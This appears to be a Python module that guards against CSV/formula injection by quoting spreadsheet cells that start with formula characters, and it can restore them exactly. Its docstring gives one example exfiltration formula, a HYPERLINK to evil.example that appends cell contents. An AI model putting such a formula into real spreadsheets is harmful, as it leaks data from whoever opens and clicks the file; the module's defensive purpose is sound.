"""Spreadsheet cells that cannot run: the review sheets are opened in spreadsheet programs,
and a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) is read there as a formula: a prediction ``=HYPERLINK("http://evil.example/?"&A1)``
would send the sheet's cells away when clicked.

As OWASP's "CSV injection" page and the spreadsheet vendors document, such a cell is written
with a leading single quote, which makes it text. A cell that already starts with a quote
(or a line feed) gets one too, so reading back (:func:`restore`, which ``ingest`` applies to
every cell) is exact whether or not the spreadsheet kept the quote when it saved the file.
The form's "Export CSV" does the same in JavaScript (``templates/csv_cells.js``).
"""

from __future__ import annotations

from typing import Final

#: First characters a spreadsheet may read as the start of a formula.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
QUOTE: Final = "'"
#: What gets the quote: the formula starts, a quote (so reading back is exact), and a line
#: feed (a program that turns the carriage return into one keeps the quote readable).
_QUOTED: Final = (*FORMULA_STARTS, QUOTE, "\n")


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet shows it as text (a leading quote where it could run)."""
    if cell.startswith(_QUOTED):
        return QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """The text :func:`neutralise` was given (a cell without the added quote is kept)."""
    if cell.startswith(QUOTE) and cell[1:].startswith(_QUOTED):
        return cell[1:]
    return cell
